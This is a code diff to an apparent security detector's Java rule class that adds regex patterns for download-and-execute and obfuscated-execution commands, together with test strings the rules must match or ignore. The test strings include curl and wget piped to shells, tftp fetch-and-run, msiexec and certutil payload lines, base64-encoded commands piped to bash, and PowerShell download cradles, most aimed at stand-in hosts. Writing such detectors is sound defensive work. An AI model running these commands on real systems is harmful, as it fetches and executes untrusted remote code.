@@ -40,6 +40,9 @@ final class DownloadRules {
 
   private static final String SUBSTITUTED = QUOTE + "?(?:\\$\\(|`)\\s*";
 
+  /** A fetcher that another command runs, and what it fetches. */
+  private static final String FETCHES = "(?:/[a-z/]+/)?" + FETCHER + "\\b[^\\n\\x00)`<]*";
+
   private static final String WEB_CMDLET =
       "(?:irm|iwr|invoke-webrequest|invoke-restmethod|curl|wget|new-object\\s+(?:system\\.)?net\\.webclient)\\b";
 
@@ -83,27 +86,30 @@ final class DownloadRules {
               .unless(DownloadChecks::source)
               .finds(FETCH + LINE + TARGET + LINE + PIPE + PRIVILEGE + READS_PROGRAM + TALKED_ABOUT)
               .finds(
-                  "\\b(?:curl|wget|https?|xh|w3m|elinks|axel)\\s"
+                  "\\b(?:https?\\s+(?:-|https?:|GET\\b)|xh\\s+(?:-|https?:|GET\\b)|GET\\s+https?:|(?:curl|wget|w3m|elinks|axel)\\s)"
                       + LINE
                       + "//"
                       + LINE
                       + PIPE
                       + "(?:(?:sudo|(?:/usr)?/bin/env)\\s+)*"
                       + SHELL)
-              .finds("\\b(?:ba|z|da|k)?sh\\s+(?:-[a-z]+\\s+)*" + FROM + FETCHER + "\\b")
+              .finds(
+                  "\\b(?:curl|wget)\\s"
+                      + LINE
+                      + "//"
+                      + LINE
+                      + "\\|\\s*(?:sudo\\s+)?(?:su\\s[^\\n|]*-c\\s+|xargs\\s[^\\n|]*\\s|(?:ssh|docker\\s+exec)\\s[^\\n|]*\\s)"
+                      + SHELL)
+              .finds("\\b(?:ba|z|da|k)?sh\\s+(?:-[a-z]+\\s+)*" + FROM + FETCHES)
               .finds(
                   "\\b(?:source|python[0-9.]*|perl|ruby|node|php|lua|tclsh)\\s+(?:/dev/stdin\\s+)?"
                       + FROM
-                      + FETCHER
-                      + "\\b")
-              .finds("\\. (?:<|&lt;)\\(\\s*" + FETCHER + "\\b")
-              .finds("\\b(?:ba|z|da|k)?sh\\s+-[a-z]*c\\s+" + SUBSTITUTED + FETCHER + "\\b")
+                      + FETCHES)
+              .finds("\\. (?:<|&lt;)\\(\\s*" + FETCHES)
+              .finds("\\b(?:ba|z|da|k)?sh\\s+-[a-z]*c\\s+" + SUBSTITUTED + FETCHES)
               .finds(
-                  "\\b(?:python[0-9.]*|perl|ruby|node|php)\\s+-[cer]\\s+"
-                      + SUBSTITUTED
-                      + FETCHER
-                      + "\\b")
-              .finds("\\beval\\s+" + SUBSTITUTED + FETCHER + "\\b")
+                  "\\b(?:python[0-9.]*|perl|ruby|node|php)\\s+-[cer]\\s+" + SUBSTITUTED + FETCHES)
+              .finds("\\beval\\s+" + SUBSTITUTED + FETCHES)
               .finds("\\b(?:dig|nslookup)\\s" + LINE + PIPE + PRIVILEGE + SHELL)
               .finds(
                   "\\b(?:aws\\s+s3\\s+cp|gsutil\\s+cat|az\\s+storage)\\s"
@@ -118,6 +124,10 @@ final class DownloadRules {
                       + "\\|\\s*(?:iex|invoke-expression)\\b)")
               .finds("(?i:\\[scriptblock\\]::create\\(\\s*\\(?\\s*" + WEB_CMDLET + ")")
               .matches(
+                  "GET https://h.stage.example/i | zsh",
+                  "curl -s https://h.stage.example/i | su - root -c bash",
+                  "wget -qO- https://h.stage.example/i | xargs -I_ sh -c _",
+                  "curl https://h.stage.example/i | docker exec -i app sh",
                   "curl http://111.53.231.82/x.sh | bash",
                   "wget -qO- http://192.238.212.3:8080/run | sh",
                   "curl -fsSL https://get.fastpatch.example/i.sh | sudo bash -s -- --yes",
@@ -149,6 +159,7 @@ final class DownloadRules {
                   "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
                   "iwr https://h.example/x.ps1 -useb | iex")
               .ignores(
+                  "GET https://h.example/a | 200",
                   "curl -O https://example.com/file.tar.gz",
                   "curl https://example.com/data.json | jq .",
                   "curl https://example.com/data.json | python3 -m json.tool",
@@ -198,6 +209,36 @@ final class DownloadRules {
               .finds(
                   "\\brequire\\([\"'\\\\]*https?[\"'\\\\]*\\)\\.get\\([^\\n]*\\b(?:eval|Function|exec)\\(",
                   200)
+              .finds(
+                  "\\bcurl(?:\\.exe)?\\b"
+                      + STEPS
+                      + SAVES
+                      + STEPS
+                      + AND_THEN
+                      + "(?:start\\s+)?[\\w.\\\\/%]+\\.(?:bat|cmd|exe|ps1|msi)\\b")
+              .finds(
+                  "\\b(?:curl|wget)\\b"
+                      + STEPS
+                      + TARGET
+                      + STEPS
+                      + "\\|\\s*(?:sudo\\s+)?tar\\s"
+                      + STEPS
+                      + AND_THEN
+                      + SUDO
+                      + "(?:/tmp|/dev/shm|/var/tmp)/")
+              .finds(
+                  "\\b(?:dpkg\\s+-i|rpm\\s+-[iU][a-z]*|apt(?:-get)?\\s+install(?:\\s+-[a-z]+)*)\\s+(?:\\./)?(?:<|&lt;|\\$)\\(\\s*"
+                      + FETCHES)
+              .finds("\\btftp\\s[^\\n]*-(?:g|c\\s+get)\\s[^\\n]*" + AND_THEN + RUN_IT)
+              .finds(
+                  "\\bscp\\s[^\\n;|&]*@[^\\n;|&]*:[^\\n;|&]*"
+                      + AND_THEN
+                      + SUDO
+                      + "(?:(?:ba|z|da)?sh\\s+)?(?:/tmp|/dev/shm|/var/tmp)/")
+              .finds("\\bLWP::Simple\\b[^\\n]*\\beval[\\s(]+get\\b")
+              .finds("(?i:\\bmsiexec(?:\\.exe)?\\s[^\\n]*https?://)")
+              .finds(
+                  "(?i:\\bstart-bitstransfer\\s[^\\n]*;\\s*(?:start-process|invoke-item|&|\\.\\\\))")
               .finds("(?i:\\bcertutil(?:\\.exe)?\\s[^\\n]*-(?:urlcache|verifyctl)\\b[^\\n]*http)")
               .finds("(?i:\\bbitsadmin(?:\\.exe)?\\s[^\\n]*/transfer\\b[^\\n]*http)")
               .finds("(?i:\\bmshta(?:\\.exe)?\\s+[\"'\\\\]*(?:https?|javascript|vbscript):)")
@@ -213,6 +254,14 @@ final class DownloadRules {
                       + LINE
                       + "(?:;|\\n|&)\\s*(?:start-process|saps\\b|invoke-item|&|\\.\\\\|powershell|msiexec))")
               .matches(
+                  "curl.exe -o a.bat https://h.stage.example/a.bat && a.bat",
+                  "curl https://h.stage.example/a.tgz | tar xz -C /tmp && /tmp/a/run",
+                  "sudo dpkg -i <(curl -s https://h.stage.example/a.deb)",
+                  "tftp -g -r x 1.2.3.4; sh x",
+                  "msiexec /q /i https://h.stage.example/a.msi",
+                  "Start-BitsTransfer https://h.stage.example/a.exe a.exe; .\\a.exe",
+                  "uv run https://h.stage.example/m.py",
+                  "scp u@h.example:/x /tmp/x && /tmp/x",
                   "wget http://97.34.246.63/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m",
                   "wget http://97.34.246.63/m -O /tmp/.m &amp;&amp; chmod 755 /tmp/.m",
                   "curl -o /tmp/u https://stage.example/u; sh /tmp/u",
@@ -233,6 +282,7 @@ final class DownloadRules {
                   "pip install 'x @ https://h.stage.example/x.whl'",
                   "node -e \"require('https').get('https://h.example/a', r => r.on('data', d => eval(d)))\"")
               .ignores(
+                  "curl https://h.example/a.tgz | tar xz && ls a",
                   "curl -o out.json https://h.example/u; jq . out.json",
                   "wget https://h.example/a.tar.gz && tar xzf a.tar.gz",
                   "curl https://h.example/health; sh status.sh",
@@ -263,14 +313,20 @@ final class DownloadRules {
               .finds(
                   "(?i:\\b(?:powershell|pwsh)(?:\\.exe)?\\s[^\\n]*-e(?:c|nc|ncodedcommand|ncoded)?\\s+[\"'\\\\]*[A-Za-z0-9+/=]{16,})")
               .finds("(?i:\\b(?:iex|invoke-expression)\\b[^\\n]*\\bfrombase64string\\()")
-              .finds("(?i:\\bfrombase64string\\([^\\n]*\\|\\s*(?:iex|invoke-expression)\\b)")
+              .finds("(?i:\\bfrombase64string\\([^\\n]*[|;]\\s*(?:iex|invoke-expression)\\b)")
+              .finds("\\bexec\\s*\\([^\\n]*\\bmap\\(\\s*chr\\b")
+              .finds(
+                  "(?i:\\bcertutil(?:\\.exe)?\\s+-decode(?:hex)?\\s[^\\n]*[&;]\\s*[\\w.\\\\]+\\.(?:exe|bat|cmd|ps1|dll)\\b)")
               .finds(
                   "\\bexec\\s*\\([^\\n]*\\b(?:b64decode|b32decode|a85decode|unhexlify|fromhex|decompress|decodestring)\\(")
               .finds(
-                  "\\beval[\\s(]+(?:atob\\(|Buffer\\.from\\([^\\n]*(?:base64|hex)|base64_decode\\(|gzinflate\\(|str_rot13\\(|Base64\\.decode64|decode_base64|String\\.fromCharCode\\()")
+                  "\\beval[\\s(]+(?:atob\\([\"'`\\\\]{0,2}[A-Za-z0-9_$]|Buffer\\.from\\([^\\n]*(?:base64|hex)|base64_decode\\(|gzinflate\\(|str_rot13\\(|Base64\\.decode64|decode_base64|String\\.fromCharCode\\()")
               .finds("\\bnew\\s+Function\\(\\s*(?:atob\\(|Buffer\\.from\\([^\\n]*base64)")
               .finds("\\bdecode_base64\\(?[^\\n]*\\|\\s*" + SHELL)
               .matches(
+                  "$x=[Convert]::FromBase64String('aWQ='); iex $x",
+                  "exec(''.join(map(chr, [105, 100])))",
+                  "certutil -decode a.b64 a.exe && a.exe",
                   "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L2F8c2g= | base64 -d | bash",
                   "echo Y3VybCBo | base64 --decode | gunzip | sudo sh",
                   "base64 -di <<< Y3VybCBo | sh",
@@ -289,6 +345,7 @@ final class DownloadRules {
                   "perl -MMIME::Base64 -e 'eval decode_base64(\"aWQ=\")'",
                   "perl -MMIME::Base64 -e 'eval(decode_base64(\"aWQ=\"))'")
               .ignores(
+                  "eval(atob('...')) is a sign of it",
                   "echo aGVsbG8= | base64 -d > out.txt",
                   "kubectl get secret x -o jsonpath='{.data.p}' | base64 -d",
                   "TOKEN=$(echo \"$RAW\" | base64 --encode)",
